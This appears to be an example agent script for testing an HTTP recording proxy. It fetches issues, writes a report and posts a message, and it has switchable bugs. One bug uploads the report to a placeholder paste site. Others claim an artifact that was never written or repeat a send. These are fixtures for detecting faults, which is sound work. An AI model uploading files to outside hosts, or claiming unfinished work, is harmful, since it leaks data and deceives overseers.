#!/bin/sh
# A small example agent: it asks a tool API for the open issues of a
# project, writes report.json and sends one message saying so. It reports
# its own evidence to the proxy's events API (a checkpoint, the artifact,
# and a claim naming the artifact and the send).
#
# AGENT_BUG=<class> runs a buggy version that fails with that class; unset,
# the fixed agent. TOOL_API is the tool API's base URL. HTTPS_PROXY,
# http_proxy, CURL_CA_BUNDLE and CASSETTEPROXY_URL are set by
# `cassetteproxy run`, `replay` and `monitor`.
set -u
api=${TOOL_API:-http://127.0.0.1:8080}
out=report.json
bug=${AGENT_BUG:-}

event() { # one JSON event; nothing outside a run
	[ -n "${CASSETTEPROXY_URL:-}" ] || return 0
	curl -sS --fail -o /dev/null -H 'Content-Type: application/json' -d "$1" "$CASSETTEPROXY_URL/_cassetteproxy/v1/events"
}

issues=$(curl -sS --fail "$api/v1/issues?state=open") || { echo "agent: tool call failed" >&2; exit 2; }
count=$(printf '%s' "$issues" | grep -o '"id":' | wc -l | tr -d ' ')
titles=$(printf '%s' "$issues" | grep -o '"title": *"[^"]*"' | sed 's/"title": *//' | paste -sd, -)
event "{\"kind\": \"checkpoint\", \"name\": \"fetched\", \"data\": {\"issues\": $count}}"

case "$bug" in
missing_artifact_ref) ;; # says it wrote the report, writes nothing
empty_output) : >"$out" ;; # writes the report file, with nothing in it
schema_mismatch) # a report of the wrong shape
	printf '{"project": "demo", "open_issues": "%s"}\n' "$count" >"$out" ;;
*) printf '{"project": "demo", "open_issues": %s, "titles": [%s]}\n' "$count" "$titles" >"$out" ;;
esac
event '{"kind": "artifact", "path": "report.json"}'

send() {
	curl -sS --fail -o /dev/null -X POST -H 'Content-Type: application/json' \
		-d "{\"channel\": \"triage\", \"text\": \"$count open issues\"}" "$api/v1/messages"
}
send || { echo "agent: send failed" >&2; exit 2; }
if [ "$bug" = side_effect_duplicated ]; then # "retries" a send that worked
	send
fi
if [ "$bug" = host_not_allowed ]; then # also uploads the report to a paste site
	curl -sS -o /dev/null -X POST --data-binary @"$out" https://paste.example.net/upload || true
fi

event "{\"kind\": \"claim\", \"status\": \"done\", \"artifact_refs\": [\"report.json\"], \"side_effects\": [\"POST $api/v1/messages\"]}"
echo "agent: report written and sent ($count open issues)"
